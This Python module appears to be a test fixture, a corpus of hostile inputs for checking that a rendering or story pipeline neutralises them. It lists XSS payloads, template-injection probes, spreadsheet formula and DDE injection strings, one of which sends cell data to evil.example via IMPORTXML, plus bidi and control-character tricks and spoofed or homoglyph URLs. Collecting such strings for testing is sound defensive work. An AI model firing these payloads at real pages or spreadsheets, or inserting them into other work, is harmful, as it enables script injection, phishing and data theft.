"""The kept corpus: texts that somebody may put into a story, a corpus or an address to harm a page.

Whatever got through once is added here. Alerts are numbered, to tell which text rang.
"""

from __future__ import annotations

from itertools import zip_longest

MARKUP = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\"><svg onload=alert(3)><iframe srcdoc='<script>parent.alert(4)</script>'>",
    "</title></script></style></textarea></noscript><style>*{display:none}</style>",
    "<a href='javascript:alert(5)'>here</a> <form action=https://evil.example><input autofocus>",
    "&lt;script&gt;alert(6)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "<base href=https://evil.example/> <meta http-equiv=refresh content=0;url=//evil.example>",
    "' onmouseover='alert(7)' x='",
    "<!--<script>alert(8)--> ]]> <?php ?> <![CDATA[<b>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
)
MARKDOWN = (
    "**bold** [link](javascript:alert(9)) ![picture](https://evil.example/p.png) `code`",
    "[a][b] [b]: https://evil.example <https://evil.example> https://evil.example www.evil.example",
    ":red[red] :material/home: :smile: :blue-background[b] $x^2$ $$y$$ :streamlit:",
    "](https://evil.example) [",
    "**]** ** _ ~~ ` | --- | # > - 1. ```",
    "| a | b | | - | - | | c | d |",
    "ada@evil.example <ada@evil.example> a -> b <- c",
    "\\](https://evil.example) \\\\[x](//evil.example)",
)
EXPRESSIONS = (
    "'+alert(10)+'",
    '"];alert(11)//',
    "datum['name'] || alert(12)",
    '{"expr":"alert(13)"} {"signal":"alert(14)"} [datum.x]',
    "\\u0027);alert(15);// \\x27 \\",
    "constructor.constructor('alert(16)')()",
    "__proto__",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example";"here")',
    "=cmd|' /C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''+1",
    'x";=1+1;"',
    'x,"=1+1"',
    "x;=1+1|@1",
    '=IMPORTXML(CONCAT("https://evil.example/";A1);"//a")',
)
# Only files of corpora, addresses and what is typed may hold these: a story's check refuses them.
CONTROLS = (
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "x\t=1+1",
    "x\r\n=1+1",
    "\ufeff=1+1",
    "a\n\n# heading\n\n- item\n\n<b>b</b>",
    "a\u2028b\u2029c\x00d\x1be\x85f",
    "a\u202egnp.exe\u2066b\u2069",
)
# May be no link: what is a link, and why, stands in `links.is_web`.
ADDRESSES = (
    "javascript:alert(20)",
    "JaVaScRiPt:alert(21)",
    "java\tscript:alert(22)",
    " javascript:alert(23)",
    "javascript://news.example/%0aalert(24)",
    "data:text/html,<script>alert(25)</script>",
    "vbscript:msgbox(26)",
    "file:///etc/passwd",
    "//evil.example/",
    "https:\\\\evil.example\\",
    "https:evil.example",
    "https://news.example@evil.example/",
    "https://news.example\\@evil.example/",
    "https://news.example:80@evil.example/",
    "https://аррӏе.example/",
    "https://nеws.example/",
    "https://news．example/",
    "https://news。example/",
    "https://ｎｅｗｓ.example/",
    "https://news.example\u2215evil.example/",
    "https://news.example%2eevil.example/",
    "https://news\u200b.example/",
    "https://news.example/\u202egnp.exe",
    "https://news.example/\x00",
    'https://news.example/"onmouseover="alert(27)',
    "https://news.example/a b",
    "http://",
)

# What a story's files may hold, mixed: a column of a few rows has some of each kind.
STORIES = tuple(
    text
    for some in zip_longest(MARKUP, MARKDOWN, EXPRESSIONS, FORMULAS)
    for text in some
    if text is not None
)
TEXTS = (*STORIES, *CONTROLS, *ADDRESSES)
